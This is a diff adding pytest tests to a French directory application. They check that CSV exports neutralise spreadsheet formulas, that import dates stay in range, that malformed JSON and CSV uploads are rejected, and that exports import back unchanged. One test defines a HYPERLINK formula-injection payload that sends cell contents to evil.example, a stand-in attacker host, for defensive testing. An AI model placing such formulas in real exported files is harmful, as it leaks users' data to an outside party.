@@ -91,3 +91,59 @@ def test_only_region_admins_import(api, request, who, ajaccio):
     response = api.post(IMPORT, _files(STRUCTURES, SERVICES), format="multipart")
     assert response.status_code == 403
     assert not Structure.objects.filter(slug="partenaire-asso").exists()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
+
+
+@pytest.mark.parametrize("kind", ["structures", "services"])
+def test_csv_exports_neutralise_formulas(api, service_a, kind):
+    """A member can rename its structure and service: the public CSV must not carry a formula (review M1)."""
+    Structure.objects.filter(pk=service_a.structure_id).update(name=HYPERLINK)
+    Service.objects.filter(pk=service_a.pk).update(name="@SUM(A1)", description="-2+3 " + HYPERLINK)
+    text = api.get(f"/api/v1/exports/data-inclusion/{kind}.csv").content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert any(cell.startswith("'") for cell in cells)
+
+
+@pytest.mark.parametrize(
+    "day, error",
+    [
+        ("0001-01-01", "la date ne peut pas précéder l'année 2014."),
+        ("2999-01-01", "la date ne peut pas dépasser aujourd'hui."),
+    ],
+)
+def test_an_import_dated_out_of_range_is_refused(api, region_admin, ajaccio, day, error):
+    """An update date is a fact of the past, within the platform's life (review M8: dates in imports too)."""
+    api.force_login(region_admin)
+    response = api.post(IMPORT, _files(STRUCTURES, [dict(SERVICES[0], date_maj=day)]), format="multipart")
+    assert response.status_code == 400
+    assert response.json()["errors"] == [
+        f"services.json, enregistrement n° 1 (id « partenaire--1 ») : champ « date_maj » : {error}"
+    ]
+
+
+@pytest.mark.parametrize(
+    "name, content, error",
+    [
+        ("services.json", b"[" * 100_000, "services.json : JSON trop imbriqué"),
+        ("services.csv", b"id,nom\nx," + b"a" * 140_000 + b"\n", "services.csv : fichier CSV illisible"),
+    ],
+)
+def test_an_unreadable_import_is_a_400(api, region_admin, name, content, error):
+    """A RecursionError and a csv.Error were 500s (review L1)."""
+    api.force_login(region_admin)
+    response = api.post(IMPORT, {"services": SimpleUploadedFile(name, content)}, format="multipart")
+    assert response.status_code == 400 and response.json()["errors"][0].startswith(error)
+
+
+def test_our_own_csv_imports_back_unchanged(api, region_admin, service_a):
+    """The export's neutralising apostrophe is removed on import: names round-trip."""
+    Service.objects.filter(pk=service_a.pk).update(name="-2+3 atelier")
+    text = api.get("/api/v1/exports/data-inclusion/services.csv").content.decode()
+    assert "'-2+3 atelier" in text
+    from apps.directory.exchange import read_file
+
+    (records,) = read_file("services.csv", text.encode(), "service").values()
+    assert "-2+3 atelier" in [r.get("nom") for r in records.records]
